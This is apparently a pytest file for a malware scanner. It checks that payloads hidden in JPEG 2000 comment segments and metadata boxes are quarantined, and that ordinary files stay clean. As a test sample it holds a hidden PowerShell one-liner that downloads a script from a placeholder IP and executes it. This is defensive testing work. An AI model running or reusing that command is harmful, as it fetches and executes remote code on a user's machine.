"""JPEG 2000 boxes and codestream comments are judged (agent/inspect/jp2.py).

ISO/IEC 15444-1 Annex I: besides the codestream (`jp2c`) a JP2 file holds the header box
(`jp2h`: ihdr, colour profile, palette...), and may hold labels, URLs, IPR, association
and `free` boxes; Annex A.9.2: a COM marker segment (FF64, Lcom, Rcom, then text or
binary) in the main header. All of them are bytes of the writer's choosing.
"""

from __future__ import annotations

import base64
import io
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import box, gradient

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
COM = b"\xff\x64"
RCOM_LATIN = b"\x00\x01"  # Rcom 1: the comment is ISO 8859-15 text


def _save(**options: object) -> bytes:
    out = io.BytesIO()
    gradient((64, 48)).save(out, "JPEG2000", **options)
    return out.getvalue()


JP2 = _save()
J2K = _save(no_jp2=True)


def _with_comment(codestream: bytes, text: bytes) -> bytes:
    """The raw codestream with a COM segment right after SIZ (SOC, SIZ marker, Lsiz...)."""
    siz_end = 4 + int.from_bytes(codestream[4:6], "big")
    segment = COM + struct.pack(">H", 4 + len(text)) + RCOM_LATIN + text
    return codestream[:siz_end] + segment + codestream[siz_end:]


def _before_codestream(jp2: bytes, extra: bytes) -> bytes:
    at = jp2.index(b"jp2c") - 4
    return jp2[:at] + extra + jp2[at:]


def _codes(name: str, data: bytes) -> tuple[str, set[str]]:
    report = inspect_bytes(name, data)
    return report.verdict.value, {f.code for f in report.findings}


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_a_codestream_comment_is_quarantined(kind: str) -> None:
    assert _codes("scan.j2k", _with_comment(J2K, PAYLOADS[kind])) == (
        "quarantine",
        {"jp2.payload_in_metadata"},
    )


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("box_type", [b"lbl ", b"url ", b"jp2i", b"res ", b"asoc", b"jumb"])
def test_a_payload_in_a_known_box_is_quarantined(box_type: bytes, kind: str) -> None:
    verdict, codes = _codes("scan.jp2", _before_codestream(JP2, box(box_type, PAYLOADS[kind])))
    assert verdict == "quarantine"
    assert "jp2.payload_in_metadata" in codes


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_a_free_box_is_quarantined(kind: str) -> None:
    verdict, codes = _codes("scan.jp2", _before_codestream(JP2, box(b"free", PAYLOADS[kind])))
    assert verdict == "quarantine"
    assert "jp2.unexplained_data" in codes


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_the_header_box_is_quarantined(kind: str) -> None:
    at = JP2.index(b"jp2h") - 4
    length = int.from_bytes(JP2[at : at + 4], "big")
    header = box(b"jp2h", JP2[at + 8 : at + length] + box(b"xyzw", PAYLOADS[kind]))
    assert _codes("scan.jp2", JP2[:at] + header + JP2[at + length :])[0] == "quarantine"


def test_openjpeg_files_a_writers_comment_and_harmless_boxes_stay_clean() -> None:
    assert _codes("scan.jp2", JP2)[0] == _codes("scan.j2k", J2K)[0] == "clean"
    comment = _with_comment(J2K, b"Created by OpenJPEG version 2.5.0")
    assert _codes("scan.j2k", comment)[0] == "clean"
    boxes = box(b"lbl ", b"left eye") + box(b"free", bytes(100)) + box(b"res ", bytes(range(64)))
    assert _codes("scan.jp2", _before_codestream(JP2, boxes))[0] == "clean"
